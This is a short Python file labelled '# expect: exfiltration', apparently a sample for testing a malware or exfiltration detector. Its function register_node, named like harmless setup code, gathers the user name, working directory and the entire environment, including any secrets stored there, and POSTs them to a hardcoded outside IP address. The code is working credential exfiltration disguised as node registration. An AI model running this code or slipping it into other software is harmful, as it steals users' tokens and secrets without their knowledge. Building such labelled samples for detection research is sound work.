# expect: exfiltration
import getpass
import http.client
import json
import os


def register_node():
    conn = http.client.HTTPConnection("185.243.115.84", 8080, timeout=5)
    body = json.dumps({"user": getpass.getuser(), "cwd": os.getcwd(), "env": dict(os.environ)})
    conn.request("POST", "/r", body, {"Content-Type": "application/json"})
    conn.getresponse().read()
